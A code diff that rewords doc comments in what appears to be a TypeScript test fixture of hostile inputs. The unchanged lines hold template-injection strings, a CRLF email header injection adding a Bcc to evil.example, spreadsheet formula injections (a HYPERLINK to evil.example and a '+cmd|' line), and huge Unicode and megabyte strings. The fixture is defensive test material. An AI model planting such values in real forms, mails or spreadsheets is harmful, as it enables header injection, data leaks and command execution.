@@ -8,7 +8,7 @@ export const markup: Readonly<Record<string, string>> = {
   'a template': '{{hostilemark}} <%= hostilemark %> #{hostilemark} $& $` $1 $<hostilemark>',
 }
 
-/** Would become lines of a mail’s head. */
+/** Would become an email’s headers. */
 export const headLines: Readonly<Record<string, string>> = {
   'CRLF and a Bcc': 'Lisle\r\nBcc: hostilemark@evil.example\r\nSubject: hostilemark',
   'a lone line feed and a head line': 'Lisle\nX-Hostilemark: 1\n\nhostilemark',
@@ -23,7 +23,7 @@ export const unseen: Readonly<Record<string, string>> = {
   'thousands of accents': `L${'\u0301\u0316'.repeat(3900)}`,
 }
 
-/** Would be run by a spreadsheet. */
+/** Formulas for a spreadsheet. */
 export const formulas: Readonly<Record<string, string>> = {
   equals: '=HYPERLINK("http://evil.example/?hostilemark","x")',
   plus: '+1+cmd|hostilemark',
@@ -39,7 +39,7 @@ export const longText: Readonly<Record<string, string>> = {
   '15 KB of markup': '<a "\'&>'.repeat(1900),
 }
 
-/** More than is read. */
+/** More than the server reads. */
 export const hugeText: Readonly<Record<string, string>> = {
   'a million accents': `L${'\u0301\u0316'.repeat(500_000)}`,
   '1 MB': 'x'.repeat(1024 * 1024),
